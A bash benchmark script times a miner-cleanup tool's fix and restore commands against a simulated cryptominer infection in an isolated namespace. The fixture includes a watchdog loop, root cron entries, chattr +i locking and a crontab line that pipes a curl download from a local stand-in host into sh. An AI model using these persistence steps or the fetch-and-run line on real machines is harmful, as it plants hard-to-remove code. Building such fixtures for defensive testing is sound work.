#!/usr/bin/env bash
# Times `quarry fix --yes` and `quarry restore` on the fix scenario of
# tests/fix.rs (a miner under a watchdog shell, a cron.d line, a root crontab
# line, the binary and crontab chattr +i), each run in a private mount+PID
# namespace with overlays over /etc, /var/lib and /var/spool and a fresh /tmp,
# so nothing on this machine changes.
#
#   bench/fix.sh QUARRY_BINARY [RUNS]
# Prints one line per run: fix and restore wall times in ms, and the files
# the fix quarantined or edited.
set -euo pipefail
bin=$(readlink -f "$1")
runs=${2:-5}
cd "$(dirname "$0")/.."
mkdir -p target/tmp; burner=$(mktemp -p "$PWD/target/tmp")
cc -O1 -pthread -o "$burner" tests/c/burner.c
for i in $(seq "$runs"); do
  unshare --mount --pid --fork --mount-proc --propagation private bash -s "$bin" "$burner" <<'INNER'
set -euo pipefail
bin=$1 burner=$2
scratch=$(mktemp -d -p /run)
mount -t tmpfs tmpfs "$scratch"
n=0
for d in /etc /var/lib /var/spool; do
  mkdir -p "$scratch/$n/u" "$scratch/$n/w"
  mount -t overlay overlay -o "lowerdir=$d,upperdir=$scratch/$n/u,workdir=$scratch/$n/w" "$d"
  n=$((n + 1))
done
umount -l "$scratch"; rmdir "$scratch"
mount -t tmpfs tmpfs /tmp
mkdir -p /tmp/quarry-fix-test /var/spool/cron/crontabs
cp "$burner" /tmp/quarry-fix-test/minerd
printf '* * * * * root /tmp/quarry-fix-test/minerd\n' >/etc/cron.d/quarry-fix-test
printf '0 3 * * * /usr/bin/true\n*/5 * * * * curl -fsSL http://127.0.0.1:9/x.sh | sh\n' >/var/spool/cron/crontabs/root
chmod 600 /var/spool/cron/crontabs/root
chattr +i /tmp/quarry-fix-test/minerd 2>/dev/null || true
chattr +i /var/spool/cron/crontabs/root 2>/dev/null || true
sh -c 'while true; do /tmp/quarry-fix-test/minerd; sleep 1; done' >/dev/null &
sleep 0.5
ms() { date +%s%3N; }
t0=$(ms)
"$bin" fix --yes --interval 0 --force >/tmp/fix.out 2>&1 || true
t1=$(ms)
[ -n "${BENCH_DEBUG:-}" ] && cat /tmp/fix.out
id=$(ls /var/lib/quarry/cases | tail -1)
if "$bin" restore --help 2>/dev/null | grep -q 'found under --case-root'; then arg=$id; else arg=/var/lib/quarry/cases/$id; fi
t2=$(ms)
"$bin" restore "$arg" >/tmp/restore.out 2>&1 || true
t3=$(ms)
act=$(sed -n "s/^Done in \([0-9.]*\) ms.*/\1/p" /tmp/fix.out)
files=$(grep -cE 'ok: (quarantined|removed [0-9]+ line)' /tmp/fix.out || true)
[ -n "${BENCH_DEBUG:-}" ] && cat /tmp/fix.out /tmp/restore.out
echo "fix $((t1 - t0)) ms (acting: ${act:-not reported} ms), restore $((t3 - t2)) ms, $files file action(s)"
INNER
done
rm -f "$burner"
